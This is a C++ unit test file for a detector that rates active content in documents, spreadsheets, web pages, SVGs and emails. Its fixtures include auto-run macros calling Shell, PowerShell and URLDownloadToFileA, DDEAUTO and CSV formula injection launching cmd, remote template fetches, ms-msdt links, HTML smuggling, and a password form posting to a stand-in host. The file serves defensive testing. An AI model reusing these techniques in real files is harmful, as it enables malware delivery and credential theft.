// What documents and pages do by themselves: macros, fields, fetched parts, scripts; by every carrier.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>

#include "inspect/text/active.h"
#include "unit/inspect/text/office_parts.h"

namespace beadle::inspect {
namespace {

using ::testing::HasSubstr;
using namespace testing;

std::string shown(const std::optional<Active>& a) { return a ? std::string(name(a->confidence)) + ": " + a->what : ""; }

std::string macro(const Reading& r) {
    const Finding* best = nullptr;
    for (const auto& f : r.findings)
        if (f.kind == FindingKind::macro && (!best || f.confidence > best->confidence)) best = &f;
    return best ? std::string(name(best->confidence)) + ": " + best->evidence : "";
}

TEST(Macros, WeighWhatTheyDoAndWhen) {
    const struct {
        const char *source, *want;
    } cases[] = {
        {"Sub SortPlots()\nRange(\"A1\").Sort\nEnd Sub", "low: macros (1 module)"},
        {"Private Sub Workbook_Open()\nSheets(1).Activate\nEnd Sub",
         "medium: macros (1 module) that run when the document is opened"},
        {"Sub Helper()\nShell \"calc\"\nEnd Sub", "medium: macros (1 module): starts programs"},
        {"Sub AutoOpen()\nCreateObject(\"WScript.Shell\").Run \"calc\"\nEnd Sub",
         "high: macros (1 module) that run when the document is opened; starts programs"},
        {"Sub Document_Open()\nx = \"pow\" & \"ershell -nop\"\nEnd Sub",
         "high: macros (1 module) that run when the document is opened; starts PowerShell"},
        {"Private Declare PtrSafe Function F Lib \"urlmon\" Alias \"URLDownloadToFileA\" ()\nSub Auto_Open()\nEnd Sub",
         "downloads a file"},
        {"Sub AutoClose()\nGetObject(\"winmgmts:\").Create\nEnd Sub", "through WMI"},
        {"Sub Bombshell()\nx = 1 ' Shell \"calc\"\nEnd Sub", "low: macros (1 module)"},
        {"Sub Tidy()\nSet d = CreateObject(\"Scripting.Dictionary\")\nEnd Sub",
         "low: macros (1 module): makes objects of other programs"},
    };
    for (const auto& c : cases) EXPECT_THAT(shown(judge_macros(c.source, 1)), HasSubstr(c.want)) << c.source;
}

TEST(Fields, ThatStartProgramsAreKnownFromWords) {
    const struct {
        const char *text, *want;
    } cases[] = {
        {"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"",
         "high: field (DDE) that starts a program (cmd) when the document is opened"},
        {" ddeauto "
         "\"C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\cmd.exe\" \"/c "
         "x\"",
         "high: "},
        {"DDE powershell \"-c x\"", "high: "},
        {"=cmd|'/C calc'!A0", "high: formula that starts a program (cmd)"},
        {"1,2\n+powershell|'-c x'!A1", "high: "},
        {"@MSEXCEL|'\\..\\..\\windows\\cmd.exe'!''", ""},
        {"hidden words, sudden added odds", ""},
        {"DDE was a technique of the nineties", ""},
        {"a|b|c and 'd'!", ""},
        {"Path|'x'", ""},
    };
    for (const auto& c : cases) {
        const auto got = shown(judge_fields(c.text));
        if (*c.want)
            EXPECT_THAT(got, HasSubstr(c.want)) << c.text;
        else
            EXPECT_EQ(got, "") << c.text;
    }
}

TEST(Targets, AreWhatADocumentFetches) {
    const struct {
        const char *kind, *target, *want;
    } cases[] = {
        {"attachedTemplate", "http://files.example/t.dotm",
         "high: document that fetches its template from files.example"},
        {"attachedTemplate", "file:///C:\\Users\\a\\Templates\\Letter.dotx", ""},
        {"attachedTemplate", "file:///\\\\server\\templates\\Letter.dotx",
         "low: document that fetches its template from the computer server"},
        {"attachedTemplate", "\\\\files.example@80\\t.dotm", "high: "},
        {"oleObject", "https://files.example/a.rtf", "high: document that fetches an object"},
        {"oleObject", "mhtml:http://files.example/a!x-usc:http://files.example/b", "high: link that runs code"},
        {"frame", "http://files.example/", "high: document that fetches a page"},
        {"hyperlink", "http://files.example/", ""},
        {"hyperlink", "ms-msdt:/id PCWDiagnostic", "high: link that runs code"},
        {"image", "http://files.example/a.png", ""},
    };
    for (const auto& c : cases) {
        const auto got = shown(judge_target(c.kind, c.target));
        if (*c.want)
            EXPECT_THAT(got, HasSubstr(c.want)) << c.target;
        else
            EXPECT_EQ(got, "") << c.target;
    }
}

const std::string long_data(4000, 'Q');

TEST(Pages, ThatBuildThemselvesOrAFileAreKnown) {
    const struct {
        std::string page;
        const char* want;
    } cases[] = {
        {"<html><script>var b=atob('" + long_data +
             "');var l=document.createElement('a');l.href=URL.createObjectURL(new "
             "Blob([b]));l.download='a.zip';l.click()</script>",
         "high: page that builds a file by script"},
        {"<script>window.navigator.msSaveOrOpenBlob(new Blob([x]),'a.iso')</script>", "high: page that builds a file"},
        {"<script>document.write(unescape('%3C%68%74%6D%6C'))</script>", "high: page that builds itself"},
        {"<body onload=\"document.documentElement.innerHTML=atob(x)\">", "high: page that builds itself"},
        {"<form action=\"https://collect.example/p\" method=post><input type=email><input type=\"password\"></form>",
         "high: page that asks for a password and sends it to collect.example"},
        {"<script>window.location.href='https://login.example/'</script>",
         "medium: page whose script leads to another"},
        {"<script>window.location=atob('aHR0cHM6')</script>", "high: page whose script leads to another"},
        {"<meta http-equiv=\"refresh\" content=\"0; url=https://login.example/a\">",
         "medium: page that leads to login.example"},
        {"<script src=\"https://cdn.example/a.js\"></script>", "medium: page that runs a script of cdn.example"},
        {"<script>var a = 1;</script>", "low: page with a script"},
        {"<p>The minutes.</p><img src=\"data:image/png;base64," + long_data + "\">", ""},
        {"<p>The minutes</p>", ""},
    };
    for (const auto& c : cases) {
        const auto got = shown(judge_page(c.page, true));
        if (*c.want)
            EXPECT_THAT(got, HasSubstr(c.want)) << c.page.substr(0, 80);
        else
            EXPECT_EQ(got, "") << c.page.substr(0, 80);
    }
    EXPECT_EQ(shown(judge_page("<script>document.write(unescape('a'))</script>", false)), "");
    EXPECT_THAT(shown(judge_page("<form action=\"https://a.example/\"><input type=password></form>", false)),
                HasSubstr("medium"));
}

TEST(Pages, DrawingsWithScriptsAreKnown) {
    EXPECT_THAT(shown(judge_drawing("<svg><script>window.location.href=atob('x')</script></svg>")), HasSubstr("high"));
    EXPECT_THAT(shown(judge_drawing("<svg onload=\"x()\"></svg>")), HasSubstr("medium"));
    EXPECT_EQ(shown(judge_drawing("<svg><a href=\"https://a.example/\"><path d=\"M0 0\"/></a></svg>")), "");
}

TEST(Active, ThingsAreFoundByEveryCarrier) {
    const std::string page = "<html><script>document.write(unescape('%3C'))</script></html>";
    const std::string svg =
        "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>eval(atob('x'))</script></svg>";
    const std::string dde =
        word_with(paragraph("<w:r><w:instrText>DDEAUTO c:\\windows\\cmd.exe \"/k\"</w:instrText></w:r>"));
    const std::string remote = word_with(
        paragraph(run("a")),
        {{"word/_rels/document.xml.rels", relations({{"r9", "attachedTemplate", "!http://files.example/t.dotm"}})}});
    const std::string rtf = "{\\rtf1{\\*\\template http://files.example/t.dotm}words}";
    const struct {
        std::string octets, name;
        const char* want;
    } cases[] = {
        {page, "invoice.html", "high: page that builds itself"},
        {svg, "logo.svg", "high: picture (SVG)"},
        {dde, "a.docx", "high: field (DDE)"},
        {remote, "b.docx", "high: document that fetches its template"},
        {rtf, "c.rtf", "high: document that fetches its template"},
        {sample("office/minutes.docm"), "minutes.docm", "high: macros"},
        {sample("office/plots.xlsm"), "plots.xlsm", "high: macros"},
        {sample("office/talk.pptm"), "talk.pptm", "high: macros"},
        {sample("pdf/script.pdf"), "script.pdf", ": script"},
        {sheet_with("<sheetData/>", {{"xl/worksheets/_rels/sheet1.xml.rels",
                                      relations({{"r9", "xlMacrosheet", "../macrosheets/a.xml"}},
                                                "http://schemas.microsoft.com/office/2006/relationships/")}}),
         "budget.xlsx", "high: Excel 4.0 macro sheet"},
        {"A,B\n1,2\n=cmd|'/C calc'!A0,3\n", "list.csv", "high: formula"},
    };
    for (const auto& c : cases) {
        const std::string plain = message_with(c.octets, c.name);
        const std::string zip = message_with(test::zip_of({{c.name, c.octets}}), "a.zip");
        const std::string nested =
            "Content-Type: multipart/mixed; boundary=o\r\n\r\n--o\r\nContent-Type: message/rfc822\r\n\r\n" + plain +
            "\r\n--o--\r\n";
        const std::string document =
            message_with(word_with(paragraph(run("See.")), {{"word/embeddings/" + c.name, c.octets}}), "d.docx");
        EXPECT_THAT(macro(read(plain).reading), HasSubstr(c.want)) << c.name << " plain";
        EXPECT_THAT(macro(read(zip).reading), HasSubstr(c.want)) << c.name << " in a ZIP archive";
        EXPECT_THAT(macro(read(nested).reading), HasSubstr(c.want)) << c.name << " in a nested message";
        EXPECT_THAT(macro(read(document).reading), HasSubstr(c.want)) << c.name << " in a document";
    }
}

TEST(Active, ThingsAreNotSeenInHonestDocuments) {
    for (const char* name :
         {"office/minutes.docx", "office/plots.xlsx", "office/talk.pptx", "office/plots.ods", "legacy/minutes.doc",
          "legacy/ledger.xls", "legacy/minutes.rtf", "pdf/letter.pdf", "pdf/form.pdf"})
        EXPECT_EQ(macro(read_sample(name).reading), "") << name;
}

// Rows of what each judge looks around at: none may cost the square of its length.
TEST(Active, HostileTextCostsNoMoreThanItsLength) {
    std::string metas, pipes, fields, forms;
    while (metas.size() < (1u << 20)) metas += "<meta ", pipes += "=a|'", fields += " DDE ", forms += "<form ";
    EXPECT_EQ(shown(judge_page(metas, true)), "");
    EXPECT_EQ(shown(judge_page(forms + "<input type=password>", true)), "medium: page that asks for a password");
    EXPECT_EQ(shown(judge_fields(pipes + "!")), "medium: more formulas of other programs than are looked at");
    EXPECT_EQ(shown(judge_fields(fields)), "medium: more fields than are looked at");
}

}  // namespace
}  // namespace beadle::inspect
